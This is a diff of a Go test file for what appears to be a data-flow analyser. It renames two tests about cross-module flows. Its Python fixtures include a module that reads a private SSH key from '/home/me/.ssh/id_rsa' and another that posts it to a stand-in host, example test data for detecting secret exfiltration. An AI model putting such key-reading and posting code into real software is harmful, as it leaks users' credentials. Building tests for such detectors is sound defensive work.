@@ -52,7 +52,7 @@ func TestAFindingOverTwoModulesStandsOnTheChangedLineAndNamesBoth(t *testing.T) 
 	}
 }
 
-func TestWhatTheBaseMakesOfTwoModulesAlreadyIsNotNew(t *testing.T) {
+func TestFlowsAcrossModulesOfTheBaseAreNotNew(t *testing.T) {
 	post := "import requests\nfrom conf import value\n\nrequests.post('https://api.example.com/in', data=value())\n"
 	key := "def value():\n    return open('/home/me/.ssh/id_rsa').read()\n"
 	base := fstest.MapFS{"use.py": file(post), "conf.py": file(key)}
@@ -71,7 +71,7 @@ func TestWhatTheBaseMakesOfTwoModulesAlreadyIsNotNew(t *testing.T) {
 }
 
 // A module that was not read is not left out without a word.
-func TestMoreThanIsJoinedIsANoteAndAGapWhereTheProfileIsStrict(t *testing.T) {
+func TestModulesBeyondTheBoundAreANoteAndAGapUnderTheStrictProfile(t *testing.T) {
 	base := fstest.MapFS{"big.py": file("def value():\n    return 1\n\nx = '" + strings.Repeat("y", 5<<20) + "'\n")}
 	edit := fstest.MapFS{"use.py": file("import requests\nfrom big import value\n\nrequests.post('https://api.example.com/in', data=value())\n")}
 	const said = "what it does with other modules was not followed"
